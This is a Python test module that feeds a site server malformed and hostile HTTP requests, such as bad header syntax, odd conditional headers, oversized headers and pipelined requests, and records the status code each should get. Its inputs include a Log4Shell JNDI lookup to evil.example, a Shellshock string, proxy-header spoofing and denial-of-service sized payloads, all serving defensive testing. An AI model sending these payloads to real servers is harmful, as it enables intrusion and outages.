"""What stands in the headers, how much of it, and in which form."""

from tests.attacks.attack import Attack
from tests.attacks.requests.site_server import SiteServer, answered, with_lines


def _header(name: str, lines: bytes, happens: str) -> Attack[SiteServer]:
    return with_lines("headers", name, lines, happens)


def _size(name: str, lines: bytes, happens: str) -> Attack[SiteServer]:
    return with_lines("size", name, lines, happens)


def _get(target: bytes, more: bytes = b"") -> bytes:
    return b"GET " + target + b" HTTP/1.1\r\nHost: site.example\r\n" + more + b"\r\n"


_LAST = _get(b"/", b"Connection: close\r\n")

ATTACKS: tuple[Attack[SiteServer], ...] = (
    _header("a line without a colon", b"evil\r\n", "400"),
    _header("a line without a name", b": evil\r\n", "400"),
    _header("a name with a space", b"X Evil: 1\r\n", "400"),
    _header("a name in UTF-8", "X-Ëvil: 1\r\n".encode(), "400"),
    _header("a name with a NUL", b"X-\0: 1\r\n", "400"),
    _header("a value with a NUL", b"X: a\0b\r\n", "400"),
    _header("a value with a bell", b"X: a\x07b\r\n", "400"),
    _header("a value that ends with CR alone", b"X: a\rY: b\r\n", "400"),
    _header("a value that ends with LF alone", b"X: a\nY: b\r\n", "400"),
    _header("a value that goes on in the next line", b"X: a\r\n evil\r\n", "400"),
    _header("a value that is no text", b"If-None-Match: \xff\xfe\r\n", "200"),
    _header("a tag without its quotes", b"If-None-Match: evil\r\n", "200"),
    _header("a tag that is a star among others", b'If-None-Match: "a", *\r\n', "200"),
    _header("any tag", b"If-None-Match: *\r\n", "304"),
    _header("a thousand tags", b"If-None-Match: " + b'"a", ' * 1000 + b"\r\n", "200"),
    _header("a date that is none", b"If-Modified-Since: evil\r\n", "200"),
    _header("a date of the year 99999", b"If-Modified-Since: Wed, 10 Jan 99999 09:00:00 GMT\r\n", "200"),
    _header("a date of a zone beyond the world", b"If-Modified-Since: Wed, 10 Jan 2024 09:00:00 +9999\r\n", "200"),
    _header("a date before all time", b"If-Modified-Since: Wed, 10 Jan 0000 09:00:00 GMT\r\n", "200"),
    _header("a date with a month that is none", b"If-Modified-Since: Wed, 10 Foo 2024 09:00:00 GMT\r\n", "200"),
    _header("two dates", b"If-Modified-Since: Wed, 10 Jan 2024 09:00:00 GMT\r\n" * 2, "200"),
    _header("a part of a page", b"Range: bytes=0-3\r\n", "200"),
    _header("a thousand parts of a page", b"Range: bytes=" + b"0-,5-" * 1000 + b"0-\r\n", "200"),
    _header("a part that begins behind its end", b"Range: bytes=9-0\r\n", "200"),
    _header("a part of a page that has changed", b'If-Range: "evil"\r\nRange: bytes=0-0\r\n', "200"),
    _header("a coding that nobody knows", b"Accept-Encoding: evil\r\n", "200"),
    _header("a coding with a weight that is none", b"Accept-Encoding: gzip;q=evil\r\n", "200"),
    _header("a coding with a weight of many digits", b"Accept-Encoding: gzip;q=0." + b"0" * 5000 + b"\r\n", "200"),
    _header("no coding at all is wanted", b"Accept-Encoding: identity;q=0, *;q=0\r\n", "200"),
    _header("four thousand codings", b"Accept-Encoding: " + b"a," * 4000 + b"\r\n", "200"),
    _header("a password", b"Authorization: Basic ZXZpbDpldmls\r\n", "200"),
    _header("a cookie", b"Cookie: evil=1\r\n", "200"),
    _header("another host for the proxy", b"X-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\n", "200"),
    _header("another path for the proxy", b"X-Original-URL: /outbox/\r\nX-Rewrite-URL: /outbox/\r\n", "200"),
    _header("another method", b"X-HTTP-Method-Override: DELETE\r\n", "200"),
    _header("another address of the client", b"X-Forwarded-For: 127.0.0.1\r\n", "200"),
    _header("a look-up of log4j as the program's name", b"User-Agent: ${jndi:ldap://evil.example/}\r\n", "200"),
    _header("a shell's function", b"User-Agent: () { :; }; evil\r\n", "200"),
    _header("another site asks for a page", b"Origin: https://evil.example\r\n", "200"),
    _header("connection names the host", b"Connection: host\r\n", "200"),
    _header("connection both ways", b"Connection: keep-alive\r\n", "200"),
    with_lines(
        "headers", "another site asks whether it may delete a page",
        b"Origin: https://evil.example\r\nAccess-Control-Request-Method: DELETE\r\n", "405", method=b"OPTIONS",
    ),
    with_lines(
        "headers", "another site asks whether it may read a page",
        b"Origin: https://evil.example\r\nAccess-Control-Request-Method: GET\r\n", "405", method=b"OPTIONS",
    ),
    with_lines("headers", "HEAD of a page that is known", b"If-None-Match: *\r\n", "304", method=b"HEAD"),
    _size("a header of 17 KB", b"X: " + b"a" * 17_000 + b"\r\n", "431"),
    _size("a header of 300 KB", b"X: " + b"a" * 300_000 + b"\r\n", "431"),
    _size("a name of 17 KB", b"X" * 17_000 + b": a\r\n", "431"),
    _size("three thousand headers", b"X: y\r\n" * 3000, "431"),
    _size("three hundred headers", b"X: y\r\n" * 300, "200"),
    _size("tags of 17 KB", b"If-None-Match: " + b'"a", ' * 3400 + b"\r\n", "431"),
    answered("size", "a target of 9 KB", _get(b"/" + b"a" * 9000), "414"),
    answered("size", "a target of 70 KB", _get(b"/" + b"a" * 70_000), "414"),
    answered("size", "a query of 70 KB", _get(b"/?" + b"a" * 70_000), "414"),
    answered("size", "a target of a megabyte without an end", b"GET /" + b"a" * 1_000_000, "414"),
    answered("size", "a megabyte of a header without an end", b"GET / HTTP/1.1\r\nX: " + b"a" * 1_000_000, "431"),
    answered("size", "a megabyte of empty lines", b"\r\n" * 500_000 + _LAST, "200"),
    answered("several at once", "two requests at once", _get(b"/") + _LAST, "200, 200"),
    answered("several at once", "twenty requests at once", _get(b"/") * 19 + _LAST, ", ".join(["200"] * 20)),
    answered("several at once", "one that is none behind one that is", _get(b"/") + b"evil\r\n\r\n", "200, 400"),
    answered("several at once", "one with two hosts behind one that is", _get(b"/") + _get(b"/", b"Host: evil\r\n"),
             "200, 400"),
    answered("several at once", "HEAD, and then GET", _get(b"/").replace(b"GET", b"HEAD") + _LAST, "200, 200"),
    answered("several at once", "a POST with its body, and then GET",
             b"POST / HTTP/1.1\r\nHost: site.example\r\nContent-Length: 4\r\n\r\nevil" + _LAST, "405, 200"),
    answered("several at once", "nothing at all", b"", "hangs up without an answer",
             left_to_ci="it waits for a second"),
    answered("several at once", "half a request", b"GET / HTTP/1.1\r\nHo", "hangs up without an answer",
             left_to_ci="it waits for a second"),
    answered("several at once", "half a body", b"POST / HTTP/1.1\r\nHost: site.example\r\nContent-Length: 9\r\n\r\na",
             "hangs up without an answer", left_to_ci="it waits for a second"),
)  # fmt: skip
